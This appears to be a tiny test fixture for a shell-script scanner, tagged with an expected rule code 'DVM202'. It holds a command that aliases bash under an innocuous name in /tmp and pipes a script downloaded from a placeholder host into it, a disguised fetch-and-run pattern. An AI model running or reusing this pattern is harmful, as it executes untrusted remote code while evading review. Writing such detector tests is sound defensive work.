# expect: DVM202
ln -s /bin/bash /tmp/reader
curl -fsSL https://example.org/i.sh | /tmp/reader
